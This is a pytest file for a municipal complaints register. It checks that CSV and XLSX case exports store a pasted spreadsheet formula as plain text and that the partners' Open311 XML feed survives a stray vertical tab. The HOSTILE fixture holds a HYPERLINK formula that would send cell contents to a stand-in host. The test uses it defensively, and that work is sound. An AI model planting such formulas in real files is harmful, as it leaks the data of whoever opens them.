"""A citizen's words reach the register's exports and the partners' feed as text, whatever they pasted."""

import csv
import io
from xml.etree import ElementTree

import openpyxl
import pytest

from complaints.models import ApiKey

HOSTILE = '=HYPERLINK("http://ornek.test/?d="&A1,"Tıkla")'
# A vertical tab, as Word leaves it in pasted text: XML 1.0 cannot hold it.
PASTED = "Sokak lambası\x0b yanmıyor."


@pytest.fixture
def pasted_case(make_case):
    return make_case(address=HOSTILE, description=PASTED)


@pytest.mark.django_db
def test_the_case_exports_open_cleanly_and_run_nothing(client, clerk, pasted_case):
    client.force_login(clerk)
    response = client.get("/admin/cases/?export=csv")
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    assert row["Adres"] == "'" + HOSTILE  # text in Excel and LibreOffice, not a link that leaks data
    assert row["Açıklama"] == "Sokak lambası yanmıyor."

    response = client.get("/admin/cases/?export=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    address = sheet[2][headings.index("Adres")]
    assert address.value == HOSTILE and address.data_type == "s"
    assert sheet[2][headings.index("Açıklama")].value == "Sokak lambası yanmıyor."


@pytest.mark.django_db
def test_the_partners_xml_feed_stays_well_formed(client, pasted_case):
    key = ApiKey(name="İBB Beyaz Masa")
    secret = key.issue()
    key.save()
    response = client.get(f"/open311/v2/requests/{pasted_case.tracking_number}.xml", {"api_key": secret})
    root = ElementTree.fromstring(response.content)  # a malformed document raises here
    assert root.find("request").findtext("description") == "Sokak lambası yanmıyor."
